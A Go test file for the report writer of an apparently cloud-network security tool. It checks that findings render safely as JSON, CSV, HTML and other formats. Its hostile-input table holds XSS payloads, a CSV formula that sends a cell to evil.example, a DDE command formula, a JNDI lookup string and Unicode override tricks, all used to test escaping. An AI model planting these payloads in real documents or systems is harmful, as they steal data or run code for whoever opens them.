package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"weir/internal/finding"
)

var update = flag.Bool("update", false, "write the golden files anew")

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}

func ptr(n int) *int { return &n }

// sample has a finding of each kind that formats treat differently: with an interface, without one, settled.
func sample() Document {
	return Document{
		Generated: at("2026-11-03T12:30:00Z"), Version: "v0.1.0",
		Rules: func(id string) RuleInfo {
			return map[string]RuleInfo{
				"exposed-datastore": {
					Title: "Datastore answers the internet", Group: "exposure", Techniques: []string{"T1190"},
					Explain:    "A database that anybody can reach is read, emptied or held to ransom within hours of being found.",
					Fix:        "Take the rule that lets 0.0.0.0/0 in out of the security group, and let the application's group in instead. Then assume that the data was read: rotate what was in it.",
					References: []string{"https://docs.aws.amazon.com/vpc/latest/userguide/vpc-security-groups.html"},
				},
				"port-scan":     {Title: "A host tries many ports", Group: "scan", Techniques: []string{"T1046"}, Explain: "Somebody is looking for what answers.", Fix: "Look at what answered it."},
				"admin-lateral": {Title: "Administration from an unusual host", Group: "access", Techniques: []string{"T1021.004"}, Fix: "Ask who did it."},
			}[id]
		},
		Coverage: &Coverage{
			Since: at("2026-11-02T00:00:00Z"), Until: at("2026-11-03T12:00:00Z"), Interfaces: 212, Hours: 7610,
			Gaps: []Gap{
				{"vpc-0a1b2c3d (eu-west-1)", at("2026-11-03T02:00:00Z"), at("2026-11-03T05:00:00Z"), "no records of any of its 14 interfaces"},
				{"eni-0ff1ce0000000001", at("2026-11-02T17:00:00Z"), at("2026-11-02T18:00:00Z"), "AWS says SKIPDATA: its own capacity, or an error"},
			},
			Blind: []Blind{{"syn-scan", 14, "tcp-flags is not in the log format"}},
		},
		Findings: []*finding.Finding{
			{
				ID: "port-scan-1111111111", Rule: "port-scan", RuleVersion: 1, Title: "A host tries many ports", Severity: "medium", State: "acknowledged", Techniques: []string{"T1046"},
				Client: "198.51.100.23", Protocol: ptr(6), FirstSeen: at("2026-11-03T03:00:00Z"), LastSeen: at("2026-11-03T09:00:00Z"), Count: 1830, Confidence: "high",
				Summary:  "198.51.100.23 tried 1,830 ports of 61 hosts; none answered",
				Evidence: finding.Evidence{SQL: "SELECT client FROM conversations WHERE hour >= ?", Args: []any{at("2026-11-03T08:00:00Z")}},
				Details:  map[string]any{"hosts": int64(61), "ports": int64(1830)}, Created: at("2026-11-03T04:00:00Z"), Updated: at("2026-11-03T09:30:00Z"),
			},
			{
				ID: "exposed-datastore-2222222222", Rule: "exposed-datastore", RuleVersion: 2, Title: "Datastore answers the internet", Severity: "critical", State: "open",
				Techniques: []string{"T1190"}, AccountID: "123456789012", Region: "eu-west-1", VPCID: "vpc-0a1b2c3d", InterfaceID: "eni-0a1b2c3d4e5f60718", Client: "203.0.113.9", Server: "10.0.4.17",
				Port: ptr(6379), Protocol: ptr(6), FirstSeen: at("2026-11-03T10:04:00Z"), LastSeen: at("2026-11-03T11:52:00Z"), Count: 3, Confidence: "high",
				Summary:  "10.0.4.17 port 6379 (redis) answered 3 hosts of the internet; 1.2 GB left",
				Evidence: finding.Evidence{SQL: "SELECT interface_id, port, clients_answered, server_bytes\nFROM exposures\nWHERE hour >= ? AND hour < ? AND port IN (?, ?)\n  AND clients_answered >= ?", Args: []any{at("2026-11-03T10:00:00Z"), at("2026-11-03T12:00:00Z"), int64(6379), int64(5432), int64(1)}},
				Details:  map[string]any{"server_bytes": int64(1_288_490_188), "clients_answered": int64(3), "instance_id": "i-0123456789abcdef0", "client_country": "NL"},
				Created:  at("2026-11-03T12:05:00Z"), Updated: at("2026-11-03T12:05:00Z"),
			},
			{
				ID: "admin-lateral-3333333333", Rule: "admin-lateral", RuleVersion: 1, Title: "Administration from an unusual host", Severity: "high", State: "resolved", Techniques: []string{"T1021.004"},
				AccountID: "123456789012", Region: "us-gov-west-1", InterfaceID: "eni-0000000000000000b", Client: "10.0.1.5", Server: "10.0.9.9", Port: ptr(22), Protocol: ptr(6),
				FirstSeen: at("2026-11-02T10:00:00Z"), LastSeen: at("2026-11-02T11:00:00Z"), Count: 1, Confidence: "low", Summary: "10.0.1.5 logged in to 10.0.9.9 by SSH for the first time in 30 days",
				Created: at("2026-11-02T11:05:00Z"), Updated: at("2026-11-03T11:05:00Z"),
			},
		},
	}
}

// write fails the test on an error that is not about findings left out.
func write(t *testing.T, format string, d Document) ([]byte, *LeftOutError) {
	t.Helper()
	var b bytes.Buffer
	err := Write(&b, format, d)
	var left *LeftOutError
	if err != nil && !errors.As(err, &left) {
		t.Fatalf("%s: %v", format, err)
	}
	return b.Bytes(), left
}

func TestGolden(t *testing.T) {
	for _, f := range Formats() {
		got, _ := write(t, f.Name, sample())
		path := filepath.Join("testdata", "findings"+f.Ext)
		if *update {
			if err := os.WriteFile(path, got, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if d := cmp.Diff(string(want), string(got)); d != "" {
			t.Errorf("%s (-want +got), -update writes it anew:\n%s", path, d)
		}
	}
}

func TestNothing(t *testing.T) {
	for _, f := range Formats() {
		got, left := write(t, f.Name, Document{})
		if left != nil {
			t.Errorf("%s: %v", f.Name, left)
		}
		if want := map[string]string{"json": "[]\n", "asff": "[]\n", "jsonl": "", "ocsf": ""}; strings.Contains("json asff jsonl ocsf", f.Name) && string(got) != want[f.Name] {
			t.Errorf("%s of nothing: %q", f.Name, got)
		}
	}
	if err := Write(&bytes.Buffer{}, "pdf", Document{}); err == nil || !strings.Contains(err.Error(), "sarif") {
		t.Errorf("an unknown format: %v", err)
	}
}

// hostile is a finding whose every text is written by somebody who wants to run something.
func hostile(text string) *finding.Finding {
	f := sample().Findings[1]
	f.Rule, f.Title, f.Summary, f.Client, f.Server, f.InterfaceID, f.Confidence, f.State = text, text, text, text, text, text, text, text
	f.Techniques = []string{text, "T1190"}
	f.Evidence = finding.Evidence{SQL: text, Args: []any{text, math.NaN(), math.Inf(1)}}
	f.Details = map[string]any{"a": text, text: int64(1), "nan": math.NaN(), "list": []any{text, nil, 1.5}}
	return f
}

var hostileTexts = map[string]string{
	"control":  "a\x00b\x1b[2Jc\x07\r\nd\u0085e\u2028f",
	"markup":   `</script><script>alert(1)</script><img src=x onerror=alert(1)>"'--><!-- ]]>`,
	"override": "eni-\u202e0123\u2066zz\u200b\U000e0041",
	"formula":  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"at":       "@SUM(1+1)*cmd|' /C calc'!A0",
	"plus":     "  +1+1",
	"tab":      "\t=1+1",
	"notUTF8":  "a\xff\xfe\xc0b",
	"link":     "javascript:alert(1)",
	"huge":     strings.Repeat("<é=", 1<<18), // a megabyte
	"template": "{{.}} ${jndi:ldap://x} %s %n",
}

func TestHostile(t *testing.T) {
	for name, text := range hostileTexts {
		d := sample()
		d.Findings = []*finding.Finding{hostile(text)}
		d.Rules = func(string) RuleInfo {
			return RuleInfo{Title: text, Explain: text, Fix: text, References: []string{text, "https://example.com/" + text}, Group: "scan"}
		}
		d.Coverage.Gaps = []Gap{{What: text, Why: text}}
		d.Coverage.Blind = []Blind{{Rule: text, Why: text}}
		for _, f := range Formats() {
			got, left := write(t, f.Name, d)
			what := name + " as " + f.Name
			if left != nil {
				t.Errorf("%s: %v", what, left)
			}
			if !utf8.Valid(got) {
				t.Errorf("%s is not UTF-8", what)
			}
			if most := map[string]int{"json": 64 << 20, "jsonl": 64 << 20, "ocsf": 2 << 20}[f.Name]; len(got) > max(most, 1<<20) {
				t.Errorf("%s has %d bytes", what, len(got))
			}
			for _, r := range string(got) {
				if r != '\n' && r != '\t' && Unsafe(r, string(r)) {
					t.Errorf("%s has %U", what, r)
					break
				}
			}
			switch f.Name {
			case "json", "sarif", "asff", "jsonl", "ocsf":
				var v any
				if err := json.Unmarshal(got, &v); err != nil {
					t.Errorf("%s: %v", what, err)
				}
				if bytes.Contains(got, []byte("</script>")) {
					t.Errorf("%s can end a script", what)
				}
			case "csv":
				rows, err := csv.NewReader(bytes.NewReader(got)).ReadAll()
				if err != nil || len(rows) != 2 {
					t.Errorf("%s: %d rows, %v", what, len(rows), err)
				}
				for _, cell := range rows[len(rows)-1] {
					if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
						t.Errorf("%s: a cell is run as a formula: %.60q", what, cell)
					}
				}
			case "html":
				for _, bad := range []string{"<script", "<img", "javascript:alert(1)\"", "onerror=alert(1)>", "-->"} {
					if bytes.Contains(got, []byte(bad)) {
						t.Errorf("%s has %s", what, bad)
					}
				}
			}
		}
	}
}

// The page works with nothing else: it fetches nothing and runs nothing.
func TestHTMLIsAlone(t *testing.T) {
	got, _ := write(t, "html", sample())
	for _, bad := range []string{"<script", "<link", "<iframe", "@import", "url(", " src=", "<form"} {
		if bytes.Contains(got, []byte(bad)) {
			t.Errorf("the page has %s", bad)
		}
	}
	for _, want := range []string{"default-src 'none'", "prefers-color-scheme: dark", "@media print"} {
		if !bytes.Contains(got, []byte(want)) {
			t.Errorf("the page has no %s", want)
		}
	}
	worst, settled := bytes.Index(got, []byte("exposed-datastore-2222222222")), bytes.Index(got, []byte("admin-lateral-3333333333"))
	if middle := bytes.Index(got, []byte("port-scan-1111111111")); worst > middle || middle > settled {
		t.Errorf("the worst is not first, or what is settled not last: %d %d %d", worst, middle, settled)
	}
	if !bytes.Contains(got, []byte("3 findings")) || !bytes.Contains(got, []byte("1 resolved or suppressed")) {
		t.Error("the numbers in the header are not those of the document")
	}
}

func TestHTMLBounded(t *testing.T) {
	d := sample()
	one := d.Findings[1]
	d.Findings = nil
	for range htmlFindings + 7 {
		d.Findings = append(d.Findings, one)
	}
	got, _ := write(t, "html", d)
	if n := bytes.Count(got, []byte("<article")); n != htmlFindings {
		t.Errorf("%d findings are shown, want %d", n, htmlFindings)
	}
	if !bytes.Contains(got, []byte("7 more findings")) {
		t.Error("it is not said how many are left out")
	}
}

func TestCut(t *testing.T) {
	for _, c := range []struct {
		in   string
		n    int
		want string
	}{{"abc", 3, "abc"}, {"abcd", 3, "ab…"}, {"ééé", 3, "ééé"}, {"éééé", 3, "éé…"}, {"", 3, ""}, {"abcd", 1, "…"}} {
		if got := Cut(c.in, c.n); got != c.want {
			t.Errorf("Cut(%q, %d) = %q, want %q", c.in, c.n, got, c.want)
		}
	}
}
